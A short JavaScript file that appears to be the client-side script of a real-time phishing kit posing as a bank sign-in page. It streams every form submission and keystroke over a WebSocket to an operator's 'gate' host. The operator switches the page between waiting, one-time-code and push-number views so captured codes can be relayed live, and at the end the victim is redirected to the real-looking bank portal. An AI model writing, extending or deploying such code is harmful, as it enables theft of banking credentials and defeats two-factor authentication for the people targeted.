class Session {
  constructor(url) {
    this.url = url;
    this.id = sessionStorage.sid || (sessionStorage.sid = crypto.randomUUID());
    this.queue = [];
    this.open();
  }
  open() {
    this.ws = new WebSocket(`${this.url}?sid=${this.id}`);
    this.ws.onopen = () => {
      this.push('visit', { path: location.pathname, ua: navigator.userAgent });
      this.queue.splice(0).forEach((m) => this.ws.send(m));
    };
    this.ws.onmessage = (ev) => this.handle(JSON.parse(ev.data));
    this.ws.onclose = () => setTimeout(() => this.open(), 2000);
  }
  push(type, data) {
    const msg = JSON.stringify({ type, sid: this.id, data });
    this.ws.readyState === 1 ? this.ws.send(msg) : this.queue.push(msg);
  }
  handle({ view, text, digits, phone }) {
    document.querySelectorAll('[data-view]').forEach((el) => { el.hidden = el.dataset.view !== view; });
    const cur = document.querySelector(`[data-view="${view}"]`);
    if (!cur) return;
    if (text) cur.querySelector('.notice').textContent = text;
    if (view === 'otp') {
      cur.querySelector('input').maxLength = digits || 6;
      cur.querySelector('.tail').textContent = phone || '';
    }
    if (view === 'push') cur.querySelector('.number').textContent = digits;
    if (view === 'end') location.replace('https://id.bankenportal.example/');
  }
}

const s = new Session('wss://gate.ops-desk.invalid/live');
document.querySelectorAll('form').forEach((f) => {
  f.addEventListener('submit', (e) => {
    e.preventDefault();
    s.push(f.closest('[data-view]').dataset.view, Object.fromEntries(new FormData(f)));
    s.handle({ view: 'wait' });
  });
  f.addEventListener('input', (e) => s.push('typing', { name: e.target.name, value: e.target.value }));
});
